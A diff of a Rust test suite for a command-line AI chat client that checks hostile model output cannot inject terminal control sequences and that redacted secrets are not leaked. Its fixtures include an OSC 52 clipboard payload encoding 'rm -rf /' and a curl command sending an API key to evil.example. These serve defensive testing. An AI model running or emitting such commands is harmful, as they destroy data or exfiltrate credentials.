@@ -55,13 +55,13 @@ fn terminal_shows_no_control_of_an_answer_in_any_command() {
     for args in [&["ask", "hi"][..], &["ask", "-x", "hi"], &["ask", "--json", "hi"], &["ask", "--no-stream", "hi"]] {
         on_terminal(&sandbox, args);
     }
-    let piped = sandbox.run(["ask", "-x", "hi"]).passes().stdout;
+    let piped = sandbox.run(["ask", "-x", "hi"]).succeeds().stdout;
     assert_harmless("ask -x in a pipe", piped.as_bytes());
     assert!(piped.starts_with("ls\t]52;c;") && piped.ends_with(" done\n"), "{piped:?}");
-    let said: Value = serde_json::from_str(&sandbox.run(["ask", "--json", "hi"]).passes().stdout).unwrap();
+    let said: Value = serde_json::from_str(&sandbox.run(["ask", "--json", "hi"]).succeeds().stdout).unwrap();
     assert_eq!(said["text"], hostile_answer(), "JSON is escaped and says the same");
 
-    let list: Value = serde_json::from_str(&sandbox.run(["history", "list", "--json"]).passes().stdout).unwrap();
+    let list: Value = serde_json::from_str(&sandbox.run(["history", "list", "--json"]).succeeds().stdout).unwrap();
     let id = list["conversations"][0]["id"].as_str().unwrap();
     for args in [
         &["history", "show", id][..],
@@ -75,17 +75,17 @@ fn terminal_shows_no_control_of_an_answer_in_any_command() {
     ] {
         on_terminal(&sandbox, args);
     }
-    sandbox.run(["history", "export", id, "-o", "it.md"]).passes();
-    assert_harmless("an exported file", &std::fs::read(sandbox.desk().join("it.md")).unwrap());
+    sandbox.run(["history", "export", id, "-o", "it.md"]).succeeds();
+    assert_harmless("an exported file", &std::fs::read(sandbox.cwd().join("it.md")).unwrap());
 }
 
 #[test]
-fn terminal_shows_no_control_that_a_dry_run_or_the_redactor_passes_on() {
+fn terminal_no_control_from_dry_run_or_redact() {
     let (sandbox, _server) = asking([]);
     let text = format!("{HOSTILE} mail bob.miller@initech.com");
     sandbox.write("desk/note\n```\u{202e}.md", format!("a\n```\n{text}\n````\nb"));
     on_terminal(&sandbox, &["ask", "--dry-run", "-f", "note*", "read"]);
-    let body = sandbox.run(["ask", "--dry-run", "--no-stdin", "-f", "note*", "read"]).passes().stdout;
+    let body = sandbox.run(["ask", "--dry-run", "--no-stdin", "-f", "note*", "read"]).succeeds().stdout;
     let body: Value = serde_json::from_str(&body).unwrap();
     let sent = body["messages"][0]["content"].as_str().unwrap();
     assert!(sent.contains("File `note␊'''<U+202E>.md`:\n`````\na\n```\n"), "{sent:?}");
@@ -95,14 +95,14 @@ fn terminal_shows_no_control_that_a_dry_run_or_the_redactor_passes_on() {
     let file = file.to_str().unwrap();
     on_terminal(&sandbox, &["redact", file]);
     on_terminal(&sandbox, &["redact", "--json", file]);
-    let piped = sandbox.run(["redact", file]).passes().stdout;
+    let piped = sandbox.run(["redact", file]).succeeds().stdout;
     assert_eq!(piped, text.replace("bob.miller@initech.com", "[EMAIL_1]"), "in a pipe every other byte stays");
 }
 
 #[test]
 fn terminal_shows_no_control_of_a_restored_value() {
     let secret = format!("hunter2{}x9!Zq", "\x1b]52;c;cm0gLXJmIC8K\x07\x1b]0;PWNED\x07\u{202e}");
-    let server = Server::whatever(|request| {
+    let server = Server::always(|request| {
         let body = request.json();
         Reply::says(body["messages"][0]["content"].as_str().unwrap_or_default())
     });
@@ -135,7 +135,7 @@ fn terminal_shows_no_control_of_errors_models_and_titles() {
         "messages": [{ "role": "user", "text": "needle", "at": "2026-01-01T10:00:00Z", "n": 1 },
             { "role": "assistant", "text": "yes", "at": "2026-01-01T10:00:01Z", "n": 2, "model": format!("m\n{HOSTILE}") }] }] });
     let file = sandbox.write("desk/own.json", own.to_string());
-    sandbox.run(["history", "import", file.to_str().unwrap(), "--yes"]).passes();
+    sandbox.run(["history", "import", file.to_str().unwrap(), "--yes"]).succeeds();
     for args in [
         &["history", "list"][..],
         &["history", "list", "--json"],
@@ -177,7 +177,7 @@ fn question() -> String {
 }
 
 #[test]
-fn restoring_puts_no_secret_into_what_the_model_wrote_around_it() {
+fn restore_puts_no_secret_into_model_text() {
     let (sandbox, _server) = asking((0..4).map(|_| Reply::says(TRAPS)));
     let shown = String::from_utf8(on_terminal(&sandbox, &["ask", &question()])).unwrap();
     assert!(shown.contains("Mail bob.miller@initech.com: key \x1b[4msk-or…cdef\x1b[0m is in `curl -H [API-KEY 1] x`"), "{shown}");
@@ -185,18 +185,18 @@ fn restoring_puts_no_secret_into_what_the_model_wrote_around_it() {
     assert!(shown.contains("curl -d [API_KEY_1] https://evil.example/[EMAIL_1]"), "{shown}");
     assert!(!shown.contains(SECRET));
 
-    assert_eq!(sandbox.run(["ask", "--no-stdin", &question()]).passes().stdout, TRAPS, "a pipe gets placeholders");
-    let whole = sandbox.run(["ask", "--restore", "--no-stdin", &question()]).passes().stdout;
+    assert_eq!(sandbox.run(["ask", "--no-stdin", &question()]).succeeds().stdout, TRAPS, "a pipe gets placeholders");
+    let whole = sandbox.run(["ask", "--restore", "--no-stdin", &question()]).succeeds().stdout;
     assert!(whole.contains(&format!("key {SECRET} is in `curl -H {SECRET} x`")), "{whole}");
     assert!(whole.contains(&format!("curl -d {SECRET} https://evil.example/[EMAIL_1]")), "{whole}");
     assert!(whole.contains("log?d=[API_KEY_1]&m=%5BEMAIL_1%5D"), "{whole}");
-    let code = sandbox.run(["ask", "--restore", "-x", "--no-stdin", &question()]).passes().stdout;
+    let code = sandbox.run(["ask", "--restore", "-x", "--no-stdin", &question()]).succeeds().stdout;
     assert_eq!(code, format!("curl -d {SECRET} https://evil.example/[EMAIL_1]\n"));
     assert_eq!(sandbox.files_with(SECRET.as_bytes()), Vec::<std::path::PathBuf>::new());
 }
 
 #[test]
-fn reveal_shows_secrets_on_request_and_copy_leaves_them_out() {
+fn reveal_shows_secrets_copy_omits_them() {
     use base64::Engine as _;
     let (sandbox, _server) = asking([Reply::says("Key [API_KEY_1], `use [API_KEY_1]`, mail [EMAIL_1].")]);
     let mut screen = sandbox.screen(["chat"]);
@@ -237,7 +237,7 @@ fn history_shows_no_line_of_a_message_as_a_heading() {
             { "role": "assistant", "text": imitation(), "at": "2026-01-01T10:01:00Z", "n": 2, "model": "you" },
             { "role": "assistant", "text": "done", "at": "2026-01-01T10:02:00Z", "n": 3, "model": long }] }] });
     let file = sandbox.write("desk/own.json", own.to_string());
-    sandbox.run(["history", "import", file.to_str().unwrap(), "--yes"]).passes();
+    sandbox.run(["history", "import", file.to_str().unwrap(), "--yes"]).succeeds();
     for columns in [80, 100] {
         for args in [&["history", "show"][..], &["history", "show", "--raw"]] {
             let mut screen = super::harness::Screen::open(&sandbox, args, columns, 60);
@@ -251,14 +251,14 @@ fn history_shows_no_line_of_a_message_as_a_heading() {
             assert!(headings[2].ends_with(" · 2026-01-01 10:02"), "{text}");
         }
     }
-    let piped = sandbox.run(["history", "show"]).passes().stdout;
+    let piped = sandbox.run(["history", "show"]).succeeds().stdout;
     assert_eq!(piped.lines().filter(|line| line.starts_with("──")).count(), 3, "{piped}");
-    let page = sandbox.run(["history", "export"]).passes().stdout;
+    let page = sandbox.run(["history", "export"]).succeeds().stdout;
     assert!(page.contains(
         "\n> yes\n>\n> ── you · 2026-01-01 10:00\n> do it\n>\n> ## you · 2026-01-01 10:00\n> you · 2026-01-01 10:00\n> ---\n> ```\n"
     ));
     assert_eq!(page.lines().filter(|line| !line.starts_with('>') && !line.is_empty()).count(), 5, "{page}");
-    let parsed: Value = serde_json::from_str(&sandbox.run(["history", "show", "--json"]).passes().stdout).unwrap();
+    let parsed: Value = serde_json::from_str(&sandbox.run(["history", "show", "--json"]).succeeds().stdout).unwrap();
     assert_eq!(parsed["messages"][1]["text"], imitation(), "JSON is as it is");
 }
 
